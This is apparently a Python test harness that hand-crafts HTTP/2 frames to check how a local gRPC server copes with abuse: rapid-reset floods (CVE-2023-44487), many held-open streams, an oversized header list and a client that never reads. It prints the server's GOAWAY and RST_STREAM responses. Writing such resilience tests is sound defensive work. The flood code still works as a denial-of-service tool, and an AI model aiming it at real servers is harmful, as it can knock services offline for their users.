#!/usr/bin/python3
"""h2_flood: HTTP/2 abuse over TLS (ALPN h2) for the tests, frames written by hand.

  h2_flood.py PORT CA MODE [N]
    reset     rapid reset (CVE-2023-44487): N times HEADERS for a new stream, then
              RST_STREAM(CANCEL) at once, without reading
    streams   opens N streams (HEADERS without END_STREAM) and keeps them open
    bighead   one request whose header list is N bytes
    noread    h2_flood.py PORT CA noread N AUTHZ PATH SECONDS: one call with an N-byte
              message, then never reads (the socket's receive buffer fills) for SECONDS
Prints one JSON line: streams sent, whether the server closed the connection, the
GOAWAY error code if one came (11 = ENHANCE_YOUR_CALM), RST_STREAM codes seen.
"""
import json
import socket
import ssl
import struct
import sys
import time


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def lit(idx, value):
    """HPACK literal without indexing, indexed name (4-bit prefix)."""
    v = value.encode()
    out = bytearray()
    if idx < 15:
        out.append(idx)
    else:
        out += bytes([15, idx - 15])
    if len(v) < 127:
        out.append(len(v))
    else:
        out.append(127)
        n = len(v) - 127
        while n >= 128:
            out.append(n & 0x7f | 0x80)
            n >>= 7
        out.append(n)
    return bytes(out) + v


def lit_new(name, value):
    """HPACK literal without indexing, new name."""
    return b"\x00" + lit(0, name)[1:] + lit(0, value)[1:]


def request_block(extra=b"", path="/tensorflow.serving.PredictionService/Predict"):
    return (b"\x83\x87" + lit(4, path) +
            lit(1, "localhost") + lit(31, "application/grpc") + lit_new("te", "trailers") + extra)


def main():
    port, ca, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    n = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5),
                        server_hostname="localhost")
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    sent, closed, goaway, rsts = 0, False, None, {}
    try:
        if mode == "reset":
            batch = bytearray()
            for i in range(n):
                sid = 2 * i + 1
                batch += frame(1, 4, sid, request_block()) + frame(3, 0, sid, struct.pack(">I", 8))
                sent += 1
                if len(batch) > 16384:
                    s.sendall(batch)
                    batch = bytearray()
            s.sendall(batch)
        elif mode == "streams":
            for i in range(n):
                s.sendall(frame(1, 4, 2 * i + 1, request_block()))
                sent += 1
        elif mode == "noread":
            authz, path, hold = sys.argv[5], sys.argv[6], float(sys.argv[7])
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
            blk = request_block(lit(23, authz), path)
            msg = b"\x00" + struct.pack(">I", n) + b"x" * n
            s.sendall(frame(1, 4, 1, blk) + frame(0, 1, 1, msg))
            sent = 1
            time.sleep(hold)
            print(json.dumps({"sent": sent, "closed": False, "goaway": None, "rst": {}}))
            return
        elif mode == "bighead":
            blk = request_block(lit_new("x-big", "a" * n))
            chunks = [blk[j:j + 16000] for j in range(0, len(blk), 16000)]
            for j, c in enumerate(chunks):
                last = 4 if j == len(chunks) - 1 else 0
                s.sendall(frame(1 if j == 0 else 9, last, 1, c))
            sent = 1
    except (ConnectionError, ssl.SSLError, OSError):
        closed = True
    buf = b""
    deadline = time.time() + 5
    s.settimeout(0.5)
    while not closed and time.time() < deadline:
        try:
            d = s.recv(65536)
        except socket.timeout:
            if mode != "reset":
                break
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            closed = True
            break
        if not d:
            closed = True
            break
        buf += d
    i = 0
    while i + 9 <= len(buf):
        ln = int.from_bytes(buf[i:i + 3], "big")
        ft = buf[i + 3]
        pl = buf[i + 9:i + 9 + ln]
        if ft == 7 and len(pl) >= 8:
            goaway = int.from_bytes(pl[4:8], "big")
        if ft == 3 and len(pl) >= 4:
            c = int.from_bytes(pl[:4], "big")
            rsts[c] = rsts.get(c, 0) + 1
        i += 9 + ln
    print(json.dumps({"sent": sent, "closed": closed, "goaway": goaway, "rst": rsts}))


if __name__ == "__main__":
    main()
